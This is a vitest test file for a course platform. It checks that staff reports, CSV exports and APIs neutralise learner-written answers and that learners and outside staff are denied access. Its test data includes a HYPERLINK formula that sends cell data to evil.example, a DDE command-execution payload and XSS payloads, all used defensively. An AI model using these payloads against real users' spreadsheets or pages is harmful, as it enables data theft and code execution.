import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvRows } from '../../content/taxonomy/index.js'
import { MadeSite } from './made-site.js'

const part = encodeURIComponent
const key = (type: string, id: string) => `block-v1:O+C+R+type@${type}+block@${id}`
const course = 'course-v1:O+C+R'
const titled = (id: string, colour: string) =>
  `<problem display_name="Sky ${id}"><multiplechoiceresponse><label>Which colour has ${id}?</label><choicegroup><choice correct="true">${colour}</choice><choice correct="false">Grey</choice></choicegroup></multiplechoiceresponse></problem>`
const library = Object.fromEntries([
  [
    'package.toml',
    `[meta]\nformat_version = 1\n\n[learning_package]\ntitle = "Skies"\nkey = "lib:O:Skies"\n`,
  ],
  ...[
    ['day', 'Blue &amp; <b>bright</b>'],
    ['night', '=BLACK()'],
  ].flatMap(([id = '', colour = '']) => [
    [
      `entities/xblock.v1/problem/${id}.toml`,
      `[entity]\nkey = "xblock.v1:problem:${id}"\n\n[entity.draft]\nversion_num = 1\n\n[entity.published]\nversion_num = 1\n\n[[version]]\ntitle = "Sky ${id}"\nversion_num = 1\n`,
    ],
    [`entities/xblock.v1/problem/${id}/component_versions/v1/block.xml`, titled(id, colour)],
  ]),
]) as Record<string, string>

const courseOf = (pin: string) => ({
  'course.xml': `<course org="O" course="C" url_name="R"><chapter url_name="ch"><sequential url_name="s" display_name="Exam" graded="true" format="Exam" show_correctness="past_due" due="2026-07-01T00:00:00Z">
  <vertical url_name="u" display_name="Written"><problem url_name="w" display_name="Say it" showanswer="never"><stringresponse answer="secret-answer"><label>Say &lt;it&gt;</label><textline/></stringresponse></problem></vertical>
  <vertical url_name="v" display_name="Drawn"><randomized url_name="bank" display_name="Skies" count="2" source_libraries='${pin}'/></vertical>
  </sequential></chapter></course>`,
})
const other = {
  'course.xml': `<course org="O" course="D" url_name="R"><chapter url_name="ch"><sequential url_name="s"><vertical url_name="u"><problem url_name="w"><stringresponse answer="x"><label>X</label><textline/></stringresponse></problem></vertical></sequential></chapter></course>`,
}

/** What learners wrote that is something else where it is taken for what it is not, by who wrote it. */
const wrote = {
  equals: '=HYPERLINK("http://evil.example/?"&A1)',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1,2)',
  wide: '＝1+1',
  quotes: '"",=1+1,""',
  script: '<script>alert(1)</script>',
  element: '"><img src=x onerror=alert(1)>',
} as const
const names = new Map<string, string>([
  ...Object.entries(wrote),
  ['tab', '\t=1'],
  ['return', '\r=1'],
  ['line', '\n=1'],
])

let site: MadeSite
const members = new Map<string, string>()

beforeAll(async () => {
  site = await MadeSite.open({
    people: {
      directory: async () => [...names].map(([id, name]) => ({ id, name, username: name, email: name })),
    },
    access: (_request, { id, isStaff }, context) =>
      id === 'tess' ? (context.includes('+D+') ? 'staff' : 'learner') : isStaff ? 'staff' : 'learner',
  })
  const [{ version = '' } = {}] = [await site.publish(library)] as { version?: string }[]
  await site.publish(courseOf(JSON.stringify([`lib:O:Skies:${version}`])))
  await site.publish(other)
  const unit = async (id: string, learner: string) =>
    (await site.get(`/units/${part(key('vertical', id))}`, learner)).text()
  const written = /name="(input_[^"]+)"/.exec(await unit('u', 'equals'))?.[1] ?? ''
  for (const [learner, answer] of Object.entries(wrote))
    await site.post(
      `/blocks/${part(key('problem', 'w'))}/handlers/problem_check`,
      { [written]: answer },
      learner,
    )
  const drawn = await unit('v', 'equals')
  for (const [, usage = '', inside = ''] of drawn.matchAll(
    /<div class="xblock xblock-problem" data-block-type="problem" data-usage-key="([^"]+)"(.*?)(?=<div class="xblock |$)/gs,
  )) {
    const id = /Which colour has (\w+)/.exec(inside)?.[1] ?? ''
    const [, input = ''] = /name="(input_[^"]+)"/.exec(inside) ?? []
    members.set(id, usage)
    for (const learner of Object.keys(wrote).slice(0, 5)) {
      await unit('v', learner)
      await site.post(`/blocks/${part(usage)}/handlers/problem_check`, { [input]: 'choice_0' }, learner)
    }
  }
}, 60_000)
afterAll(() => site.close())

const staffText = async (path: string) => (await site.get(path, 'staff', { accept: 'text/html' })).text()
const at = (usage: string) => `/staff/blocks/${part(usage)}`
const api = (path: string) => `/api/v1${path}`
const reports = `/staff/contexts/${part(course)}/reports`

/** All ways on which staff are told what learners did. */
const ways = {
  'the report of the course': reports,
  'that of a unit': `${reports}?unit=${part(key('vertical', 'u'))}`,
  'that of an exam': `${reports}?subsection=${part(key('sequential', 's'))}`,
  responses: `${at(key('problem', 'w'))}/responses`,
  'responses as JSON': `${at(key('problem', 'w'))}/responses?format=json`,
  'what a bank gave': `${at(key('randomized', 'bank'))}/given`,
  'submissions of a learner': `${at(key('problem', 'w'))}/submissions?learner=equals`,
  'learners at a block': `${at(key('problem', 'w'))}/learners`,
  'the page of a learner': `${at(key('problem', 'w'))}?learner=equals`,
  'the gradebook': `/staff/contexts/${part(course)}/gradebook`,
  'the gradebook as CSV': `/staff/contexts/${part(course)}/gradebook.csv`,
  'the report in the API': api(`/contexts/${part(course)}/report`),
  'who is stuck in the API': api(`/contexts/${part(course)}/stuck`),
  'that of a unit in the API': api(`/blocks/${part(key('vertical', 'u'))}/report`),
  'responses in the API': api(`/blocks/${part(key('problem', 'w'))}/responses`),
  'what a bank gave in the API': api(`/blocks/${part(key('randomized', 'bank'))}/given`),
  'the grades of somebody else in the API': api(`/contexts/${part(course)}/learners/plus/grades`),
  'their exceptions in the API': api(`/contexts/${part(course)}/learners/plus/exceptions`),
} as const

describe('what learners wrote', () => {
  it.each(
    Object.entries(ways).filter(([, path]) => !/responses|given|csv|api|learners$|submissions/.test(path)),
  )('stands as text on %s', async (_, path) => {
    const page = await staffText(path)
    expect(page).toMatch(/^<!doctype html>/)
    expect(page).not.toMatch(/<img src=x|<script>alert|onerror=alert\(1\)>(?!&)/)
  })

  it.each(Object.entries(ways).filter(([, path]) => /(?:responses|given|gradebook\.csv)$/.test(path)))(
    'is no formula in %s, and what it was besides',
    async (_, path) => {
      const rows = csvRows(await staffText(path)).map(({ cells }) => cells)
      const [head = []] = rows
      // A number is one, be it below 0.
      const formulas = rows
        .flat()
        .filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-[\d.]+$/.test(cell))
      expect(formulas).toEqual([])
      for (const row of rows) expect(row).toHaveLength(head.length)
      const own = rows.find(([id]) => id === 'equals') ?? []
      expect(own).toContain(`'${wrote.equals}`)
    },
  )

  it('is in JSON what it was', async () => {
    const lines = (await staffText(ways['responses as JSON'])).trim().split('\n')
    const rows = lines.map((line) => JSON.parse(line) as Record<string, unknown>)
    for (const [learner, answer] of Object.entries(wrote))
      expect(rows.find(({ id }) => id === learner)).toMatchObject({
        name: answer,
        answer,
        question: 'Say <it>',
      })
  })
})

it.each([
  ['day', 'Blue & bright'],
  ['night', "'=BLACK()"],
])('answers to %s, which a bank drew of a library, are told in its words', async (id, answer) => {
  const usage = members.get(id) ?? ''
  expect(usage).toMatch(/^cb::/)
  const [, ...rows] = csvRows(await staffText(`${at(usage)}/responses`)).map(({ cells }) => cells)
  expect(rows.map((row) => row.slice(8, 11))).toEqual(
    Array.from({ length: 5 }, () => [`Which colour has ${id}?`, answer, 'correct']),
  )
  const report = (await (await site.get(api(`/blocks/${part(usage)}/report`), 'staff')).json()) as {
    report: { problems: { questions: unknown[] }[] }
  }
  expect(report.report.problems[0]?.questions).toEqual([
    {
      question: `Which colour has ${id}?`,
      answers: [{ text: answer.replace(/^'/, ''), learners: 5, isRight: true }],
    },
  ])
  const given = csvRows(await staffText(`${at(key('randomized', 'bank'))}/given`)).map(({ cells }) => cells)
  expect(given.some(([who, ...told]) => who === 'equals' && told.includes(`Sky ${id}`))).toBe(true)
})

describe('what is withheld from learners', () => {
  it.each(Object.entries(ways))(
    'is told to none of them, and to nobody who teaches another course: %s',
    async (_, path) => {
      for (const who of ['equals', 'tess']) {
        const answer = await site.get(path, who)
        expect([who, answer.status]).toEqual([who, 403])
        expect(await answer.text()).not.toMatch(/secret-answer|incorrect|BLACK|choice_0/)
      }
    },
  )

  it('is not in what they see of their own exam before its end', async () => {
    const own = await (await site.get(`/units/${part(key('vertical', 'u'))}`, 'equals')).text()
    expect(own).toContain('Answer received')
    expect(own).not.toMatch(/secret-answer|class="status incorrect/)
    for (const path of ['progress', 'progress.csv'])
      expect(await (await site.get(`/contexts/${part(course)}/${path}`, 'equals')).text()).not.toMatch(
        /secret-answer|BLACK/,
      )
  })
})
